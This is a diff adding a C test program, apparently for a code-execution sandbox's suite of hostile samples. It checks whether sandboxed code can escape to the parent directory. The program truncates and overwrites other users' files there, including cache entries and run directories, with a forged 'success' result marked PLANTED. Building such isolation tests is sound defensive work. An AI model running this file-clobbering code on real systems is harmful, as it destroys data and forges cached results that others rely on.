@@ -1,0 +1,43 @@
+// HOSTILE walk the temporary directory (..) and overwrite every file of others it can open: cache entries, run directories | expect ok | needs mountns
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <ftw.h>
+#include <limits.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+/* Where it can write there (no mount namespace, no Landlock), what it
+   rewrites must gain it nothing: a cache entry it rewrote is a miss, never
+   served with its text. */
+static char self[PATH_MAX];
+static int tried;
+
+static int visit(const char *path, const struct stat *st, int type, struct FTW *f)
+{
+    (void)st;
+    (void)f;
+    char real[PATH_MAX];
+    if (type != FTW_F || !realpath(path, real) ||
+        strncmp(real, self, strlen(self)) == 0 || ++tried > 500)
+        return 0;
+    int fd = open(path, O_WRONLY | O_TRUNC | O_NOFOLLOW);
+    if (fd < 0)
+        return 0;
+    const char planted[] = "{\"success\":true,\"stdout\":\"PLANTED\"}";
+    if (write(fd, planted, sizeof planted - 1) > 0)
+        printf("ESCAPED: overwrote %s\n", path);
+    close(fd);
+    return 0;
+}
+
+int main(void)
+{
+    if (!getcwd(self, sizeof self))
+        return 1;
+    if (nftw("..", visit, 16, FTW_PHYS) != 0)
+        printf("cannot walk ..\n");
+    printf("looked at %d files\n", tried);
+    return 0;
+}
